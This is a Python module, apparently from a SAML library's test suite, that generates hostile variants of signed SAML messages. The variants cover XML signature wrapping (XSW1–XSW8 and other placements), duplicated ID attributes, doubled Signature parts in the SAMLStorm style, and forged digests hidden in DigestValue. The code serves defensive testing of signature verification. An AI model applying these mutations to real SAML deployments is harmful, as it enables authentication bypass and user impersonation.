"""Hostile versions of a genuine signed message: what an attacker without any key can make of it (threats S1 to S7).

Each takes a message, self-contained, whose root is the signed element, and gives one or more elements to stand in its
place. It knows nothing of the message: a SAML message, an assertion and metadata are all attacked alike. What needs a
key is in `forgeries`.
"""

import base64
import hashlib
from collections.abc import Callable, Mapping
from copy import deepcopy
from typing import Final

from lxml import etree

from stelsel import urns
from stelsel.failures import MessageMalformed
from stelsel.saml.xml import Element

Mutation = Callable[[bytes], bytes]

DS: Final = f"{{{urns.DS}}}"
SAML: Final = f"{{{urns.SAML}}}"
SAMLP: Final = f"{{{urns.SAMLP}}}"
FORGED_ID: Final = "_forged"
EVIL: Final = "urn:nl-eid-gdi:1.0:DV:00000009999999999666:entities:9000"
_IDENTIFIERS: Final = (f"{SAML}NameID", f"{SAML}Audience", f"{SAML}AttributeValue", f"{SAMLP}Artifact")


def same(message: bytes) -> bytes:
    """The message, only written anew: every reader must still take it."""
    return etree.tostring(etree.fromstring(message))


def embedded(write: Mutation, genuine: bytes, spoiled: bytes) -> bytes:
    """What `write` signs around the spoiled element; around the genuine one, then exchanged, where it is no XML."""
    try:
        return write(spoiled)
    except (etree.XMLSyntaxError, MessageMalformed):
        return write(genuine).replace(genuine, spoiled)


def id_of(message: bytes) -> str:
    """The ID of the signed element."""
    return etree.fromstring(message).get("ID", "")


def split(message: bytes) -> tuple[Element, Element, Element]:
    """A forged copy with other IDs and contents; the genuine element without its Signature; that Signature."""
    genuine = etree.fromstring(message)
    signature = next(child for child in genuine if child.tag == f"{DS}Signature")
    genuine.remove(signature)
    evil = deepcopy(genuine)
    for element in evil.iter(etree.Element):
        for name in {"ID", "Id"} & set(element.attrib):
            element.set(name, element.get(name, "") + "-forged")
        if element.tag in _IDENTIFIERS and len(element) == 0:
            element.text = EVIL
    evil.set("ID", FORGED_ID)
    return evil, genuine, signature


def forged(message: bytes) -> bytes:
    """The forged copy alone, with the Signature of the genuine one."""
    evil, _, signature = split(message)
    evil.insert(_place(evil), signature)
    return etree.tostring(evil)


def _place(element: Element) -> int:
    """Where a Signature belongs: behind the Issuer, or in front where there is none."""
    return 1 if len(element) and element[0].tag == f"{SAML}Issuer" else 0


def _shelter(*path: Element, at: int | None = None) -> Mutation:
    """The genuine element inside `path`, outermost first, in the forged one, which carries the Signature."""

    def wrap(message: bytes) -> bytes:
        evil, genuine, signature = split(message)
        evil.insert(_place(evil), signature)
        shelters = [deepcopy(each) for each in path]
        for outer, inner in zip(shelters, [*shelters[1:], genuine], strict=True):
            outer.append(inner)
        evil.insert(len(evil) if at is None else _place(evil) + at, shelters[0])
        return etree.tostring(evil)

    return wrap


def _in_signature(find: Callable[[Element], Element], at: int | None = None) -> Mutation:
    """The genuine element somewhere in the Signature of the forged one."""

    def wrap(message: bytes) -> bytes:
        evil, genuine, signature = split(message)
        evil.insert(_place(evil), signature)
        hiding = find(signature)
        hiding.insert(len(hiding) if at is None else at, genuine)
        return etree.tostring(evil)

    return wrap


def _child(name: str) -> Callable[[Element], Element]:
    return lambda signature: next(signature.iter(f"{DS}{name}"))


def _new_object(signature: Element) -> Element:
    return etree.SubElement(signature, f"{DS}Object")


def _element(tag: str, **attributes: str) -> Element:
    return etree.Element(tag, attributes)


def original_before_a_detached_signature(message: bytes) -> bytes:
    """XSW2: genuine element and Signature side by side in the forged one."""
    evil, genuine, signature = split(message)
    evil.insert(_place(evil), genuine)
    evil.insert(_place(evil) + 1, signature)
    return etree.tostring(evil)


def forged_in_front(message: bytes) -> bytes:
    """XSW3: a forged, unsigned sibling in front of the genuine element."""
    return etree.tostring(split(message)[0]) + message


def original_as_a_child(message: bytes) -> bytes:
    """XSW4: the genuine element with its Signature a child of the forged one."""
    evil, _, _ = split(message)
    evil.append(etree.fromstring(message))
    return etree.tostring(evil)


def original_at_the_end(message: bytes) -> bytes:
    """XSW5: the forged element carries the Signature, the genuine one stands behind it without."""
    return forged(message) + etree.tostring(split(message)[1])


def forged_in_extensions(message: bytes) -> bytes:
    """XSW7: a forged sibling hidden in Extensions in front of the genuine element."""
    extensions = _element(f"{SAMLP}Extensions")
    extensions.append(split(message)[0])
    return etree.tostring(extensions) + message


def forged_behind(message: bytes) -> bytes:
    """XSW3 the other way round, for readers that take the last."""
    return message + etree.tostring(split(message)[0])


def forged_inside_the_original(message: bytes) -> bytes:
    """The genuine element holds the forged one in its Signature, which is not digested."""
    genuine = etree.fromstring(message)
    signature = next(child for child in genuine if child.tag == f"{DS}Signature")
    etree.SubElement(signature, f"{DS}Object").append(split(message)[0])
    return etree.tostring(genuine)


WRAPPING: Final[Mapping[str, Mutation]] = {
    "xsw1-original-first-in-the-signature": _in_signature(lambda signature: signature, 0),
    "xsw2-original-beside-a-detached-signature": original_before_a_detached_signature,
    "xsw3-forged-in-front": forged_in_front,
    "xsw3-forged-behind": forged_behind,
    "xsw4-original-as-a-child": original_as_a_child,
    "xsw5-original-at-the-end": original_at_the_end,
    "xsw6-original-last-in-the-signature": _in_signature(lambda signature: signature),
    "xsw7-forged-in-extensions": forged_in_extensions,
    "xsw8-original-in-an-object": _in_signature(_new_object),
    "forged-in-an-object": forged_inside_the_original,
    "original-in-key-info": _in_signature(_child("KeyInfo")),
    "original-in-extensions": _shelter(_element(f"{SAMLP}Extensions"), at=1),
    "original-in-advice": _shelter(_element(f"{SAML}Advice"), at=3),
    "original-in-idp-assertion": _shelter(
        _element(f"{SAMLP}Extensions"),
        _element(f"{SAML}Attribute", Name=urns.IDP_ASSERTION),
        _element(f"{SAML}AttributeValue"),
        at=1,
    ),
    "original-in-an-attribute-value": _shelter(
        _element(f"{SAML}AttributeStatement"),
        _element(f"{SAML}Attribute", Name="urn:evil"),
        _element(f"{SAML}AttributeValue"),
    ),
    "original-in-subject-confirmation-data": _shelter(
        _element(f"{SAML}Subject"), _element(f"{SAML}SubjectConfirmation"), _element(f"{SAML}SubjectConfirmationData")
    ),
    "original-in-conditions": _shelter(_element(f"{SAML}Conditions")),
    "original-in-status-detail": _shelter(_element(f"{SAMLP}Status"), _element(f"{SAMLP}StatusDetail")),
    "original-in-an-unknown-wrapper": _shelter(_element("{urn:evil}wrapper")),
    "original-in-an-unknown-wrapper-in-front": _shelter(_element("{urn:evil}wrapper"), at=-1),
    "original-in-a-soap-header": _shelter(_element(f"{{{urns.SOAP11}}}Envelope"), _element(f"{{{urns.SOAP11}}}Header")),
}


def _also_named(name: str) -> Mutation:
    """The forged element bears the genuine one's ID too, in another spelling."""

    def pollute(message: bytes) -> bytes:
        evil = etree.fromstring(WRAPPING["original-in-an-unknown-wrapper"](message))
        evil.set(name, id_of(message))
        return etree.tostring(evil)

    return pollute


def the_same_id_twice(message: bytes) -> bytes:
    """Both elements carry one ID: which of them does the reference mean?"""
    return _also_named("ID")(message)


def an_id_written_twice(message: bytes) -> bytes:
    """One start tag with two attributes ID."""
    written = WRAPPING["original-in-an-unknown-wrapper"](message)
    return written.replace(f'ID="{FORGED_ID}"'.encode(), f'ID="{FORGED_ID}" ID="{id_of(message)}"'.encode(), 1)


POLLUTED_IDS: Final[Mapping[str, Mutation]] = {
    "the-same-ID": the_same_id_twice,
    "ID-written-twice": an_id_written_twice,
    "Id": _also_named("Id"),
    "id": _also_named("id"),
    "xml-id": _also_named(f"{{{urns.XML}}}id"),
    "prefixed-ID": _also_named("{urn:evil}ID"),
    "saml-ID": _also_named(f"{SAML}ID"),
    "AssertionID": _also_named("AssertionID"),
}


def digest_of(element: Element) -> str:
    """What a DigestValue of this element says."""
    canonical = etree.tostring(etree.fromstring(etree.tostring(element)), method="c14n", exclusive=True)
    return base64.b64encode(hashlib.sha256(canonical).digest()).decode()


def _doubled(part: str, *, forged_first: bool) -> Mutation:
    """A part of the Signature stands twice, once for what was signed and once for what is shown (SAMLStorm)."""

    def double(message: bytes) -> bytes:
        evil, _, signature = split(message)
        genuine = next(signature.iter(f"{DS}{part}"))
        other = deepcopy(genuine)
        for reference in other.iter(f"{DS}Reference"):
            reference.set("URI", f"#{FORGED_ID}")
        for digest in other.iter(f"{DS}DigestValue"):
            digest.text = digest_of(evil)
        (genuine.addprevious if forged_first else genuine.addnext)(other)
        evil.insert(_place(evil), signature)
        return etree.tostring(evil)

    return double


def _hidden_in_digest(hide: Callable[[Element, str], None]) -> Mutation:
    """The forged element under the genuine one's ID; its digest hides in DigestValue beside the genuine one."""

    def put(message: bytes) -> bytes:
        evil, _, signature = split(message)
        evil.set("ID", id_of(message))
        hide(next(signature.iter(f"{DS}DigestValue")), digest_of(evil))
        evil.insert(_place(evil), signature)
        return etree.tostring(evil)

    return put


def _as_comment(digest: Element, forged_digest: str) -> None:
    text, digest.text = digest.text, None
    digest.append(etree.Comment(forged_digest))
    digest[0].tail = text


def _as_element(digest: Element, forged_digest: str) -> None:
    etree.SubElement(digest, "{urn:evil}x").text = forged_digest


DOUBLED: Final[Mapping[str, Mutation]] = {
    f"{'forged' if first else 'genuine'}-{part}-first": _doubled(part, forged_first=first)
    for part in ("SignedInfo", "Reference", "DigestValue", "SignatureValue", "KeyInfo", "Transforms", "SignatureMethod")
    for first in (True, False)
} | {
    "comment-in-DigestValue": _hidden_in_digest(_as_comment),
    "element-in-DigestValue": _hidden_in_digest(_as_element),
}


def two_signatures(message: bytes) -> bytes:
    """The Signature stands twice."""
    root = etree.fromstring(message)
    signature = next(child for child in root if child.tag == f"{DS}Signature")
    signature.addnext(deepcopy(signature))
    return etree.tostring(root)


def unsigned(message: bytes) -> bytes:
    """The genuine element without its Signature."""
    return etree.tostring(split(message)[1])


def signature_at_the_end(message: bytes) -> bytes:
    """The Signature is the last child."""
    _, genuine, signature = split(message)
    genuine.append(signature)
    return etree.tostring(genuine)


def signature_deeper(message: bytes) -> bytes:
    """The Signature belongs to a child."""
    _, genuine, signature = split(message)
    genuine[-1].insert(0, signature)
    return etree.tostring(genuine)


def signature_in_another_namespace(message: bytes) -> bytes:
    """Something that is called Signature and is none."""
    evil, _, signature = split(message)
    signature.tag = "{urn:evil}Signature"
    evil.insert(_place(evil), signature)
    return etree.tostring(evil)


UNSIGNED: Final[Mapping[str, Mutation]] = {
    "unsigned": unsigned,
    "forged-under-a-genuine-signature": forged,
    "forged-without-a-signature": lambda message: etree.tostring(split(message)[0]),
    "signature-at-the-end": signature_at_the_end,
    "signature-deeper": signature_deeper,
    "signature-in-another-namespace": signature_in_another_namespace,
    "two-signatures": two_signatures,
    "an-empty-signature": lambda message: etree.tostring(_with_an_empty_signature(message)),
}


def _with_an_empty_signature(message: bytes) -> Element:
    evil, _, _ = split(message)
    evil.insert(_place(evil), etree.Element(f"{DS}Signature"))
    return evil
